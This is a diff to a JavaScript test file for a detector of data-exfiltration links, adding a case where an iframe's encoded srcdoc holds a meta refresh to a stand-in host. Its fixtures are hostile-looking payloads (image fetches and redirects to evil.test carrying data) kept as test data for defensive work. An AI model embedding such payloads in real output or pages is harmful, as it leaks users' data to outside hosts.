@@ -238,8 +238,11 @@ test('exfil links: destinations with balanced or escaped parentheses, titles too
   assert.deepEqual(createExfilLinksDetector({ id: 'e', imagesOnly: true }).scan('[x](https://evil.test/a) [y](https://evil.test/b "t" junk)', ctx), []);
   // An iframe's srcdoc is a document the frame renders: a fetch in it, written with character
   // references, is a finding for the frame (three frames deep at most); a harmless document is not.
+  // (An attribute such as src= was found before, read in the frame's tag; a meta refresh was not.)
   const frame = '<iframe srcdoc="&lt;img src=&quot;https://evil.test/p.png?q=S&quot;&gt;"></iframe>';
   assert.deepEqual(d.scan(`x ${frame} y`, ctx).map((f) => [f.explanation.split(',')[0], f.score]), [['html iframe', 0.95]]);
+  const refresh = '<iframe srcdoc="&lt;meta http-equiv=refresh content=&quot;0;url=https://evil.test/x?d=1&quot;&gt;"></iframe>';
+  assert.deepEqual(d.scan(refresh, ctx).map((f) => [f.explanation.split(',')[0], f.score]), [['html iframe', 0.95]]);
   assert.deepEqual(spans('<iframe srcdoc="&lt;p&gt;hi&lt;/p&gt; &lt;img src=&quot;https://trusted.example/a.png&quot;&gt;"></iframe>'), []);
   assert.equal(spans("<iframe srcdoc='&lt;iframe srcdoc=&quot;&amp;lt;img src=https://evil.test/x&amp;gt;&quot;&gt;'></iframe>").length, 1);
   // A link's ping URL is fetched on a click, whatever its href.
